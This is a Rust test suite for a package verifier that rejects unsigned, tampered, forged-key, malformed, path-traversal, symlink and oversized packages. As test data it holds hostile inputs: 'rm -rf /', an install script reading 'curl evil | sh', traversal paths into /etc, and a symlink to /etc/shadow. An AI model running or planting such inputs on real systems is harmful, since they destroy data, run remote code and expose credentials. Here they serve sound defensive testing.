//! Each way a package is refused, and the error an operator reads.

mod common;

use common::*;
use outpost_package::format::{sha256_hex, SignatureFile};
use outpost_package::{pack, sign, verify, verify_file, Opkg, PackageError, Part, TrustStore};

fn refuse(bytes: &[u8], trust: &TrustStore) -> (PackageError, String) {
    match verify("acme-positioning.opkg", bytes, trust) {
        Ok(p) => panic!("accepted: {p:?}"),
        Err(e) => {
            let msg = e.to_string();
            assert!(msg.contains("acme-positioning.opkg"), "the file is not named: {msg}");
            (e, msg)
        }
    }
}

fn malformed(bytes: &[u8]) -> String {
    match refuse(bytes, &acme_trust()) {
        (PackageError::Malformed { reason, .. }, _) => reason,
        (e, _) => panic!("not Malformed: {e}"),
    }
}

/// A tar entry written by hand, so tests can build what `tar::Builder` refuses.
fn raw_entry(name: &[u8], kind: tar::EntryType, data: &[u8]) -> Vec<u8> {
    let mut h = tar::Header::new_ustar();
    h.as_old_mut().name[..name.len()].copy_from_slice(name);
    h.set_size(data.len() as u64);
    h.set_mode(0o644);
    h.set_mtime(0);
    h.set_entry_type(kind);
    h.set_cksum();
    let mut out = h.as_bytes().to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn archive(entries: &[Vec<u8>]) -> Vec<u8> {
    let mut out: Vec<u8> = entries.concat();
    out.resize(out.len() + 1024, 0);
    out
}

#[test]
fn a_signed_package_verifies() {
    let pkg = verify("acme-positioning.opkg", &signed(), &acme_trust()).expect("verify");
    assert_eq!(pkg.manifest_toml, MANIFEST);
    assert_eq!(pkg.component, component());
    assert_eq!(pkg.component_digest, sha256_hex(&component()));
    assert_eq!(pkg.manifest_digest, sha256_hex(MANIFEST.as_bytes()));
    assert_eq!(pkg.signer, "acme");
    assert_eq!(pkg.label, "acme-positioning.opkg (positioning 1.2.0)");
    assert_eq!(pkg.digest.len(), 64);
    assert_eq!(pkg.to_opkg(), signed(), "a verified package encodes back to the same bytes");
}

#[test]
fn packing_is_deterministic() {
    assert_eq!(signed(), signed());
}

#[test]
fn unsigned_is_refused() {
    let bytes = pack(MANIFEST.as_bytes(), &component(), None).expect("pack");
    let (e, msg) = refuse(&bytes, &acme_trust());
    assert!(matches!(e, PackageError::Unsigned { .. }), "{e:?}");
    assert!(msg.contains("not signed") && msg.contains("positioning 1.2.0"), "{msg}");
}

#[test]
fn signing_an_unsigned_package_makes_it_verify_with_the_same_digest() {
    let unsigned = pack(MANIFEST.as_bytes(), &component(), None).expect("pack");
    let opkg = Opkg::parse("x.opkg", &unsigned).expect("parse");
    let signed_later = sign(&opkg, &acme_key());
    assert_eq!(signed_later, signed());
    // Re-signed by another key of the same provider: same content digest.
    let other = sign(&opkg, &other_key());
    let a = verify("a", &signed_later, &acme_trust()).expect("a");
    let b = verify("b", &other, &trust("acme", &other_key())).expect("b");
    assert_eq!(a.digest, b.digest);
    assert_ne!(a.key_id, b.key_id);
}

#[test]
fn tampered_component_is_refused_naming_the_component() {
    let mut opkg = Opkg::parse("x", &signed()).expect("parse");
    opkg.component[100] ^= 1;
    let (e, msg) = refuse(&opkg.to_bytes(), &acme_trust());
    assert!(matches!(e, PackageError::Tampered { part: Part::Component, .. }), "{e:?}");
    assert!(msg.contains("service.wasm") && msg.contains("tampered"), "{msg}");
}

#[test]
fn tampered_manifest_is_refused_naming_the_manifest() {
    let mut opkg = Opkg::parse("x", &signed()).expect("parse");
    opkg.manifest = MANIFEST.replace("site/+/+/gnss/nmea", "#").into_bytes();
    let (e, msg) = refuse(&opkg.to_bytes(), &acme_trust());
    assert!(matches!(e, PackageError::Tampered { part: Part::Manifest, .. }), "{e:?}");
    assert!(msg.contains("service.toml"), "{msg}");
}

#[test]
fn edited_digests_without_the_key_are_a_bad_signature() {
    let mut opkg = Opkg::parse("x", &signed()).expect("parse");
    let evil = MANIFEST.replace("site/+/+/gnss/nmea", "#");
    let mut sig = SignatureFile::parse("x", opkg.signature.as_deref().expect("signed")).expect("sig");
    sig.manifest_sha256 = sha256_hex(evil.as_bytes());
    opkg.manifest = evil.into_bytes();
    opkg.signature = Some(sig.to_bytes());
    let (e, msg) = refuse(&opkg.to_bytes(), &acme_trust());
    assert!(matches!(e, PackageError::BadSignature { .. }), "{e:?}");
    assert!(msg.contains("does not verify") && msg.contains("acme"), "{msg}");
}

#[test]
fn forged_key_id_is_a_bad_signature() {
    // Signed by someone else, claiming acme's key id.
    let forged = pack(MANIFEST.as_bytes(), &component(), Some(&other_key())).expect("pack");
    let mut opkg = Opkg::parse("x", &forged).expect("parse");
    let mut sig = SignatureFile::parse("x", opkg.signature.as_deref().expect("signed")).expect("sig");
    sig.key_id = outpost_package::keys::key_id(&acme_key().verifying_key());
    opkg.signature = Some(sig.to_bytes());
    let (e, _) = refuse(&opkg.to_bytes(), &acme_trust());
    assert!(matches!(e, PackageError::BadSignature { .. }), "{e:?}");
}

#[test]
fn untrusted_key_is_refused_naming_the_key() {
    let bytes = pack(MANIFEST.as_bytes(), &component(), Some(&other_key())).expect("pack");
    let id = outpost_package::keys::key_id(&other_key().verifying_key());
    let (e, msg) = refuse(&bytes, &acme_trust());
    assert!(matches!(&e, PackageError::UntrustedKey { key_id, .. } if *key_id == id), "{e:?}");
    assert!(msg.contains(&id) && msg.contains("not in the trust store"), "{msg}");
    let (e, _) = refuse(&signed(), &TrustStore::empty());
    assert!(matches!(e, PackageError::UntrustedKey { .. }), "{e:?}");
}

#[test]
fn a_key_signs_only_its_own_providers_services() {
    let bytes = pack(MANIFEST.as_bytes(), &component(), Some(&other_key())).expect("pack");
    let (e, msg) = refuse(&bytes, &trust("globex", &other_key()));
    assert!(matches!(e, PackageError::WrongProvider { .. }), "{e:?}");
    assert!(msg.contains("'globex'") && msg.contains("'acme'"), "{msg}");
}

#[test]
fn not_an_archive_is_malformed() {
    assert!(malformed(b"").contains("no service.toml"));
    let r = malformed(b"#!/bin/sh\nrm -rf /\n");
    assert!(r.contains("tar") || r.contains("truncated"), "{r}");
    let r = malformed(&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
    assert!(r.contains("tar") || r.contains("truncated"), "{r}");
}

#[test]
fn extra_entries_are_refused() {
    let r = malformed(&archive(&[
        raw_entry(b"service.toml", tar::EntryType::Regular, MANIFEST.as_bytes()),
        raw_entry(b"service.wasm", tar::EntryType::Regular, &component()),
        raw_entry(b"install.sh", tar::EntryType::Regular, b"curl evil | sh"),
    ]));
    assert!(r.contains("'install.sh'") && r.contains("only"), "{r}");
}

#[test]
fn path_traversal_is_refused() {
    let r = malformed(&archive(&[raw_entry(b"../../etc/cron.d/x", tar::EntryType::Regular, b"x")]));
    assert!(r.contains("reaches outside"), "{r}");
    let r = malformed(&archive(&[raw_entry(b"/etc/passwd", tar::EntryType::Regular, b"x")]));
    assert!(r.contains("reaches outside"), "{r}");
    let r = malformed(&archive(&[raw_entry(b"./service.toml", tar::EntryType::Regular, b"x")]));
    assert!(r.contains("'./service.toml'"), "{r}");
}

#[test]
fn links_and_folders_are_refused() {
    let mut h = raw_entry(b"service.wasm", tar::EntryType::Symlink, b"");
    h[157..168].copy_from_slice(b"/etc/shadow");
    // The checksum covers the link name: recompute it.
    let mut header = tar::Header::new_old();
    header.as_mut_bytes().copy_from_slice(&h[..512]);
    header.set_cksum();
    h[..512].copy_from_slice(header.as_bytes());
    let r = malformed(&archive(&[h]));
    assert!(r.contains("not a regular file"), "{r}");
    let r = malformed(&archive(&[raw_entry(b"service.toml", tar::EntryType::Directory, b"")]));
    assert!(r.contains("not a regular file"), "{r}");
}

#[test]
fn duplicate_entries_are_refused() {
    let r = malformed(&archive(&[
        raw_entry(b"service.toml", tar::EntryType::Regular, MANIFEST.as_bytes()),
        raw_entry(b"service.toml", tar::EntryType::Regular, b"[service]\nname = \"other\""),
    ]));
    assert!(r.contains("service.toml twice"), "{r}");
}

#[test]
fn truncated_packages_are_refused() {
    let full = signed();
    for cut in [full.len() - 1, full.len() - 512, full.len() - 1024, full.len() / 2, 600, 100] {
        let r = malformed(&full[..cut]);
        assert!(r.contains("truncated") || r.contains("tar"), "cut at {cut}: {r}");
    }
}

#[test]
fn trailing_bytes_and_other_encodings_are_refused() {
    let mut more = signed();
    more.extend_from_slice(&[0; 512]);
    assert!(malformed(&more).contains("canonical"));
    more.truncate(more.len() - 512);
    more.extend_from_slice(b"junk");
    assert!(malformed(&more).contains("canonical"));
    // The same files, a different mtime.
    let mut other = signed();
    let mut header = tar::Header::new_old();
    header.as_mut_bytes().copy_from_slice(&other[..512]);
    header.set_mtime(1_700_000_000);
    header.set_cksum();
    other[..512].copy_from_slice(header.as_bytes());
    assert!(malformed(&other).contains("canonical"));
}

#[test]
fn oversized_packages_are_refused_before_parsing() {
    let big = vec![0u8; (outpost_package::MAX_PACKAGE_BYTES + 1) as usize];
    assert!(malformed(&big).contains("over the 64 MiB limit"));
    let huge_manifest = vec![b'#'; (2 << 20) + 1];
    let r = malformed(&archive(&[raw_entry(b"service.toml", tar::EntryType::Regular, &huge_manifest)]));
    assert!(r.contains("over its limit"), "{r}");
}

#[test]
fn signature_file_is_strict() {
    let opkg = Opkg::parse("x", &signed()).expect("parse");
    let sig = String::from_utf8(opkg.signature.clone().expect("signed")).expect("utf8");
    for (edit, expect) in [
        (sig.replace("\"format\": 1", "\"format\": 2"), "format version 2"),
        (sig.replace("\"ed25519\"", "\"rsa\""), "algorithm 'rsa'"),
        (sig.replace("\"format\": 1,", "\"format\": 1, \"x\": 0,"), "unknown field"),
        (sig.replace(": ", ":"), "canonical"),
    ] {
        let mut o = opkg.clone();
        o.signature = Some(edit.into_bytes());
        let r = malformed(&o.to_bytes());
        assert!(r.contains("signature.json") && r.contains(expect), "{expect}: {r}");
    }
}

#[test]
fn missing_file_is_a_read_error_naming_it() {
    let e = verify_file(std::path::Path::new("/nonexistent/p.opkg"), &acme_trust()).expect_err("missing");
    assert!(matches!(e, PackageError::Read { .. }) && e.to_string().contains("/nonexistent/p.opkg"), "{e}");
}

#[test]
fn pack_refuses_a_manifest_that_is_not_utf8() {
    let e = pack(&[0xff, 0xfe], &component(), None).expect_err("not utf8");
    assert!(e.to_string().contains("not UTF-8"), "{e}");
}
